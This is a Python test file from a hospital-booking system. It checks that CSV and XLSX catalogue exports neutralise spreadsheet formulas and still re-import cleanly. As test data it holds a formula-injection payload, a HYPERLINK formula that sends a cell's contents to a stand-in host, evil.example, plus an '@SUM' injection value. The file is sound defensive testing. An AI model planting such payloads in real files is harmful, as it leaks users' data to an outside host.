"""A catalogue export never hands a spreadsheet a formula: a hospital named ``=HYPERLINK(…)``
is text in the CSV (leading apostrophe) and in the workbook (a string cell), and the files
still import back unchanged."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from guahao.core.demo.files import DEMO_DIR
from guahao.core.importing import ImportFile, catalogue_rows, csv_bytes, import_files, xlsx_bytes
from guahao.core.models import Hospital
from guahao.tenants.context import use_city
from guahao.tenants.service import create_city

from .conftest import ACTOR, csv_files, snapshot

NAME = '=HYPERLINK("http://evil.example/?d="&B2,"示例医院")'
ADDRESS = "@SUM(1+1) 和平路 1 号"
PHONE = "+86 10 1232 0001"


async def _poisoned(rt, city) -> dict:
    await import_files(rt.db, city, csv_files(DEMO_DIR), ACTOR)
    with use_city(city):
        async with rt.db.transaction() as s:
            hospital = await s.scalar(select(Hospital).where(Hospital.code == "SY01"))
            hospital.name, hospital.address, hospital.phone = NAME, ADDRESS, PHONE
        async with rt.db.transaction() as s:
            return await catalogue_rows(s)


async def test_formula_text_is_escaped_and_imports_back(rt, empty_city):
    rows = await _poisoned(rt, empty_city)
    header = rows["hospitals"][0]
    text = csv_bytes(rows["hospitals"]).decode("utf-8-sig")
    [row] = [r for r in csv.reader(io.StringIO(text, newline="")) if r and r[0] == "SY01"]
    for value in (NAME, ADDRESS, PHONE):
        assert "'" + value in row and value not in row

    workbook = xlsx_bytes(rows)
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    ws = load_workbook(io.BytesIO(workbook))["hospitals"]
    [cells] = [r for r in ws.iter_rows(min_row=2) if r[0].value == "SY01"]
    name = cells[header.index(next(h for h in header if "名称" in h))]
    assert (name.value, name.data_type, name.quotePrefix) == (NAME, "s", True)

    # Both files import back to the same catalogue (the apostrophe is the CSV's, not the name's).
    for files in ([ImportFile(f"{n}.csv", csv_bytes(t)) for n, t in rows.items()],
                  [ImportFile("catalogue.xlsx", workbook)]):
        again = await create_city(rt.db, slug=f"{empty_city.slug}-x{len(files)}", name="导入测试市")
        plan, _ = await import_files(rt.db, again, files, ACTOR)
        assert plan.errors == [], plan.errors
        assert await snapshot(rt, again) == await snapshot(rt, empty_city)
